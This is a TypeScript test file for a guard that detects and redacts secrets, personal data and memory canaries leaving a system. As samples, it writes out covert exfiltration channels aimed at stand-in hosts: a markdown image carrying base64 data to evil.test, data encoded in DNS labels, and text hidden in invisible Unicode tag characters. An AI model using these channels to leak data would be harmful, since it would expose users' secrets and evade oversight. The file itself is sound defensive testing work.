import { randomBytes } from 'node:crypto'
import { crc32 } from 'node:zlib'

import fc from 'fast-check'
import { describe, expect, test } from 'vitest'

import { base62 } from '#shared/lib/crypto/base62.ts'
import { sha256Hex } from '#shared/lib/crypto/digest.ts'

import { fakeContext } from '#test/support/fakes/fake-context.ts'
import { memoryExfilGuard } from './outcome.ts'

type Answer = {
  decision: string
  findings: {
    kind: string
    rule_id: string
    path: string
    start: number
    end: number
    preview: string
    confidence: string
  }[]
  counts: Record<string, number>
  redacted: unknown
}

// Safe: the declared output has these members.
const run = async (input: unknown) => (await memoryExfilGuard.run(input, fakeContext())) as Answer
const finding = (fields: object) => expect.objectContaining(fields)

/** A token as GitHub makes them: 30 random digits and their CRC-32. */
function githubToken(): string {
  const body = base62(randomBytes(40), 60).slice(-30)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return `ghp_${body}${base62(sum, 6)}`
}
const cardNumber = '4242 4242 4242 4242'

describe('memory-exfil-guard', () => {
  test('answers its example as declared', async () => {
    expect(await run(memoryExfilGuard.example.input)).toEqual(memoryExfilGuard.example.output)
  })

  test('lets the example key of the documentation pass', async () => {
    expect((await run({ content: `key ${['AKIA', 'IOSFODNN7EXAMPLE'].join('')}` })).decision).toBe('allow')
  })

  test('blocks a real token on its way to a stranger, and shows four characters of it', async () => {
    const token = githubToken()
    const answer = await run({ content: `use ${token} please`, destination: 'https://paste.test' })
    expect(answer).toMatchObject({
      decision: 'block',
      findings: [finding({ kind: 'secret', rule_id: 'github-pat', confidence: 'high', start: 4, end: 44 })],
      destination: { host: 'paste.test', kind: 'url', external: true },
      never_echo: true,
    })
    expect(answer.findings[0]?.preview).toMatch(/^ghp_…/)
    expect(JSON.stringify(answer)).not.toContain(token.slice(4, 20))
  })

  test('asks a human where the destination is on the list', async () => {
    const content = `use ${githubToken()} please`
    const destination = 'https://vault.example.com/put'
    expect((await run({ content, destination, allowed_destinations: ['vault.example.com'] })).decision).toBe(
      'require_confirm',
    )
    expect((await run({ content, destination, allowed_destinations: ['other.example.com'] })).decision).toBe('block')
  })

  test('does what the policy says', async () => {
    const content = `use ${githubToken()} please`
    expect((await run({ content, policy: { secrets: 'review' } })).decision).toBe('review')
    expect((await run({ content: `card ${cardNumber}`, policy: { pii: 'block' } })).decision).toBe('block')
  })

  test.each([
    ['a card number with a wrong check digit', '4111 1111 1111 1112'],
    ['a row of digits', '1234 5678 9012 3456'],
    ['a plain sentence', 'We met on Tuesday and talked about the roadmap.'],
    ['a UUID', 'order 3f2b8c1e-9a4d-4c7b-8e21-5d6f7a8b9c0d'],
    ['a placeholder', 'password = "changeme"; token = <your-token>'],
  ])('finds nothing in %s', async (_what, content) => {
    expect(await run({ content })).toMatchObject({ decision: 'allow', findings: [] })
  })

  test.each([
    ['a card number', `pay with ${cardNumber}`],
    ['an IBAN', 'transfer to DE89 3704 0044 0532 0130 00'],
    ['a social security number', 'her SSN is 219-09-8765'],
  ])('finds personal data: %s', async (_what, content) => {
    expect(await run({ content })).toMatchObject({ findings: [finding({ kind: 'pii' })] })
  })

  test('sees a picture that carries data in its address', async () => {
    const load = Buffer.from('user=ann; mail=ann@example.com; plan=gold; seat=12').toString('base64url')
    expect(await run({ content: `![x](https://evil.test/p?d=${load})` })).toMatchObject({
      decision: 'block',
      findings: expect.arrayContaining([finding({ kind: 'exfil_channel', rule_id: 'markdown_image' })]),
    })
    expect((await run({ content: '![logo](https://cdn.example.com/logo.png?v=3)' })).decision).toBe('allow')
    // The documented example key, twice, in base64: the key is nobody's, the channel is one.
    const twice = Buffer.from(['AKIA', 'IOSFODNN7EXAMPLE'].join('').repeat(2)).toString('base64url')
    expect(await run({ content: `![x](https://evil.test/p?d=${twice})` })).toMatchObject({
      decision: 'block',
      findings: expect.arrayContaining([finding({ kind: 'exfil_channel', rule_id: 'markdown_image' })]),
    })
  })

  test('sees data in the labels of a host name, and characters nobody sees', async () => {
    const label = Buffer.from('the-quarterly-numbers-are').toString('hex')
    expect(await run({ content: `lookup ${label}.ns.evil.test` })).toMatchObject({
      findings: expect.arrayContaining([finding({ rule_id: 'dns_labels' })]),
    })
    const hidden = [...'secret plan'].map((char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join('')
    expect(await run({ content: `Hello${hidden}` })).toMatchObject({
      findings: expect.arrayContaining([finding({ rule_id: 'tag_characters' })]),
    })
  })

  test.each([
    ['as it is', (canary: string) => canary],
    ['in capitals', (canary: string) => canary.toUpperCase()],
    ['backwards', (canary: string) => [...canary].toReversed().join('')],
    ['in base64', (canary: string) => Buffer.from(canary).toString('base64')],
    ['in base64, moved by a byte', (canary: string) => Buffer.from(`x${canary}yz`).toString('base64')],
    ['in hex', (canary: string) => Buffer.from(canary).toString('hex')],
    ['with blanks between', (canary: string) => [...canary].join(' ')],
  ])('knows a string of the memory again, %s', async (_how, write) => {
    const canary = 'heliotrope7turbine'
    expect(await run({ content: `see ${write(canary)} there`, memory_refs: [canary] })).toMatchObject({
      decision: 'block',
      findings: expect.arrayContaining([finding({ kind: 'canary' })]),
    })
  })

  test('knows it by its digest, without ever being told it', async () => {
    const memory_refs = [sha256Hex('heliotrope7turbine')]
    expect(await run({ content: 'see heliotrope7turbine there', memory_refs })).toMatchObject({ decision: 'block' })
    expect(await run({ content: 'see another word there', memory_refs })).toMatchObject({ decision: 'allow' })
  })

  test('looks inside what is encoded, twice over', async () => {
    const once = Buffer.from(`here is the token ${githubToken()} for you`).toString('base64')
    const twice = Buffer.from(`nested: ${once}`).toString('base64')
    for (const content of [once, twice]) {
      expect(await run({ content })).toMatchObject({
        decision: 'block',
        findings: expect.arrayContaining([finding({ kind: 'secret' })]),
        decoded_layers: expect.arrayContaining([expect.objectContaining({ encoding: 'base64' })]),
      })
    }
  })

  test('walks through JSON, and takes the name of a member into account', async () => {
    const password = 'tr0ub4dor&3-zebra'
    expect(await run({ content: { a: [{ db: { password } }] } })).toMatchObject({
      findings: [finding({ kind: 'secret', path: '/content/a/0/db/password' })],
    })
  })

  test('does not repeat a secret that stands in the place of a name', async () => {
    const token = githubToken()
    const answer = await run({ content: { [token]: { mail: 'ann@corp-mail.io' } }, mode: 'redact' })
    expect(answer).toMatchObject({ decision: 'block', counts: { secret: 1, pii: 1 } })
    expect(JSON.stringify(answer)).not.toContain(token.slice(4))
  })

  test('asks for a review where more is encoded than is looked into', async () => {
    const parts = Array.from({ length: 70 }, (_, n) => Buffer.from(`some words ${n}`).toString('base64'))
    expect(await run({ content: parts.join(' ') })).toMatchObject({
      decision: 'review',
      findings: expect.arrayContaining([finding({ kind: 'encoded_blob', rule_id: 'encoded-parts' })]),
    })
  })

  test('gives back a copy without what it found', async () => {
    const token = githubToken()
    const answer = await run({ content: { note: `use ${token} now`, other: 'fine' }, mode: 'redact' })
    expect(answer.redacted).toEqual({ note: 'use [REDACTED:github-pat] now', other: 'fine' })
    expect((await run({ content: 'fine' })).redacted).toBeNull()
  })

  test.each(['\u200b', '\u2060', '\u00ad', '\ufeff', '\u{e0041}'])(
    'finds and redacts a token that is broken by an unseen character: case %#',
    async (unseen) => {
      const token = githubToken()
      const broken = [token.slice(0, 3), token.slice(3, 20), token.slice(20)].join(unseen)
      const answer = await run({ content: { note: `use ${broken} now` }, mode: 'redact' })
      expect(answer).toMatchObject({
        decision: 'block',
        findings: expect.arrayContaining([finding({ rule_id: 'github-pat', start: 4 })]),
      })
      expect(answer.redacted).toEqual({ note: 'use [REDACTED:github-pat] now' })
    },
  )

  test('redacts all of what two findings share', async () => {
    const token = githubToken()
    const answer = await run({
      content: `password=Zk9vQ2mZ7t\u200b${token.slice(0, 4)}\u200b${token.slice(4)}`,
      mode: 'redact',
    })
    expect(JSON.stringify(answer.redacted)).not.toContain(token.slice(-12))
  })

  test('asks before many records leave at once', async () => {
    const content = Array.from({ length: 60 }, (_, n) => ({
      name: `Ann ${n}`,
      email: `ann${n}@mail-${n}.com`,
      plan: 'gold',
    }))
    expect(await run({ content })).toMatchObject({ counts: { bulk_data: 1 } })
  })

  test('redacts all of them, however many there are', async () => {
    const tokens = Array.from({ length: 320 }, () => githubToken())
    const mails = Array.from({ length: 1_200 }, (_, n) => `person${n}@corp-mail.io`)
    const hosts = Array.from({ length: 260 }, (_, n) => `db${n}.prod.internal`)
    const { redacted, counts } = await run({
      content: [...tokens, ...mails, ...hosts].map((one, n) => `row ${n}: ${one}`).join('\n'),
      mode: 'redact',
    })
    expect(counts).toMatchObject({ secret: 320, pii: 1_200, internal_ref: 260 })
    expect(String(redacted)).not.toMatch(/ghp_|corp-mail|prod\.internal/)
  })

  test('redacts a string that must not leave wherever it stands, in whatever form', async () => {
    const word = 'Heliotrope7Turbine'
    const base64 = Buffer.from(word).toString('base64')
    const { redacted, counts, decision } = await run({
      content: {
        a: `${word}, ${word.toLowerCase()} and ${base64}`,
        b: `\u0130stanbul ${word} h-e-l-i-o-t-r-o-p-e-7-turbine`,
      },
      memory_refs: [word],
      mode: 'redact',
    })
    expect(decision).toBe('block')
    expect(counts['canary']).toBeGreaterThanOrEqual(5)
    expect(redacted).toEqual({
      a: '[REDACTED:canary-plain], [REDACTED:canary-plain] and [REDACTED:canary-base64]',
      b: '\u0130stanbul [REDACTED:canary-plain] [REDACTED:canary-separated]',
    })
    const twice = await run({ content: `${word} ${word}`, memory_refs: [sha256Hex(word)], mode: 'redact' })
    expect(twice.redacted).toBe('[REDACTED:canary-sha256] [REDACTED:canary-sha256]')
  })

  test('sends on nothing of a string that holds more than is looked at, and says so', async () => {
    const answer = await run({ content: { long: 'token '.repeat(50_001), short: 'fine' }, mode: 'redact' })
    expect(answer).toMatchObject({
      decision: 'review',
      redacted: { long: '[REDACTED:not-looked-at]', short: 'fine' },
      reasons: [{ code: 'too_many_values' }],
    })
  })

  test('names hosts of an inner network', async () => {
    expect(await run({ content: 'the database is at 10.2.0.17 and db.prod.internal' })).toMatchObject({
      decision: 'review',
      findings: expect.arrayContaining([finding({ kind: 'internal_ref' })]),
    })
  })

  test('answers whatever the content, and never repeats a secret', async () => {
    const token = githubToken()
    const content = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.jsonValue(),
      fc.constant({ [token]: [token] }),
      fc.array(
        fc.constantFrom(
          token,
          `![](https://x.test/?q=${token})`,
          Buffer.from(token).toString('base64'),
          '\u{e0041}',
          '%',
        ),
      ),
    )
    await fc.assert(
      fc.asyncProperty(content, async (value) => {
        // Half a surrogate pair has no canonical form, so that nothing could cite the decision.
        const isWhole = JSON.stringify(value).search(/\\ud[89a-f]/i) === -1
        if (!isWhole) return
        const answer = await run({ content: value, memory_refs: ['abc', ''] })
        expect(JSON.stringify(answer)).not.toContain(token.slice(4))
      }),
      { numRuns: 50 },
    )
  })
})
